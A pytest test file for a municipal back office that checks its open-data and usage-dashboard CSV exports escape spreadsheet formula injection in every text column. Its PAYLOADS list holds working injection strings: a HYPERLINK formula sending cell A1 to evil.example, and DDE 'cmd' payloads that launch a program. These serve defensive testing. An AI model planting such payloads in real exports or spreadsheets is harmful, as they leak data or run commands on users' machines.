"""CSV formula injection: no text cell of a CSV the back office writes may start a spreadsheet formula.

Every trigger (``=``, ``+``, ``-``, ``@``, tab, carriage return, and the same after leading spaces) is
tried in every column that can hold text typed by someone or sent by an imported feed or a kiosk,
in both CSVs (the open-data contents and the usage dashboard's figures)."""

from __future__ import annotations

import csv
import io

import pytest

from backoffice import csvsafe
from backoffice.catalog.models import Entry
from backoffice.fleet.models import Kiosk, UsageCounter

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    " \u00a0@SUM(A1)",
]

OPENDATA_TEXT_COLUMNS = {
    "categories": lambda e, v: setattr(e, "categories", [v]),  # an importer's category, unchecked
    "title_fr": lambda e, v: e.title.update(fr=v),
    "title_en": lambda e, v: e.title.update(en=v),
    "summary_fr": lambda e, v: e.summary.update(fr=v),
    "summary_en": lambda e, v: e.summary.update(en=v),
    "place_name": lambda e, v: setattr(e, "place_name", v),
    "street": lambda e, v: setattr(e, "street", v),
    "postcode": lambda e, v: setattr(e, "postcode", v),
    "city": lambda e, v: setattr(e, "city", v),
    "phone": lambda e, v: setattr(e, "phone", v),
    "email": lambda e, v: setattr(e, "email", v),
    "website": lambda e, v: setattr(e, "website", v),
    "opening_hours": lambda e, v: setattr(e, "opening_hours", v),
    "url": lambda e, v: setattr(e, "url", v),
    "source_name": lambda e, v: setattr(e, "source_name", v),
    "source_producer": lambda e, v: setattr(e, "source_producer", v),
    "source_licence": lambda e, v: setattr(e, "source_licence", v),
    "source_url": lambda e, v: setattr(e, "source_url", v),
}


def read_csv(response, delimiter=","):
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", sorted(OPENDATA_TEXT_COLUMNS))
def test_opendata_csv_writes_formulas_as_text(client, commune, column, payload):
    entry = Entry(kind="place", title={"fr": "Lavoir"}, status="published", commune=commune, source_licence="LO")
    if column == "postcode":
        payload = payload[:10]  # the column's length
    OPENDATA_TEXT_COLUMNS[column](entry, payload)
    entry.save()  # as an importer stores it: the CSV must not trust what was checked on the way in
    (row,) = read_csv(client.get("/opendata/contenus.csv"))
    # the export may trim spaces around a value (opening hours): what is left must still start with the quote
    assert row[column].startswith("'") and row[column][1:].strip() == payload.strip()


@pytest.fixture
def counted(commune):
    def make(**fields):
        kiosk = Kiosk.objects.create(name=fields.pop("kiosk", "Borne mairie"), commune=commune)
        row = {"screen": "detail", "entry_id": "", "category": "", "lang": "fr", **fields}
        UsageCounter.objects.create(kiosk=kiosk, hour="2026-10-03T10:00:00+02:00", n=4, **row)
        return kiosk

    return make


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    ("field", "column"),
    [
        ("kiosk", "Borne"),
        ("screen", "Écran"),
        ("entry_id", "Identifiant de la fiche"),
        ("category", "Rubrique"),
        ("lang", "Langue"),
        ("title", "Fiche"),
    ],
)
def test_dashboard_csv_writes_formulas_as_text(client, staff, commune, counted, field, column, payload):
    if field == "title":
        entry = Entry(kind="place", title={"fr": payload}, status="published", commune=commune)
        entry.save()
        counted(entry_id=entry.wire_id)
    else:
        counted(**{field: payload})
    client.force_login(staff("editor"))
    (row,) = read_csv(client.get("/dashboard/usage.csv?mois=2026-10"), delimiter=";")
    # an unknown category is shown with a capital first letter: compare without case
    assert row[column].startswith("'") and row[column][1:].casefold() == payload.casefold()


@pytest.mark.parametrize("value", ["+33 4 71 60 00 00", "-12.5", "15100", "Cathédrale", "a=b", ""])
def test_plain_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert csvsafe.cell(value) == value


@pytest.mark.parametrize("value", [3, -4, 2.5, -0.25])
def test_numbers_are_written_as_numbers(value):
    assert csvsafe.cell(value) == value
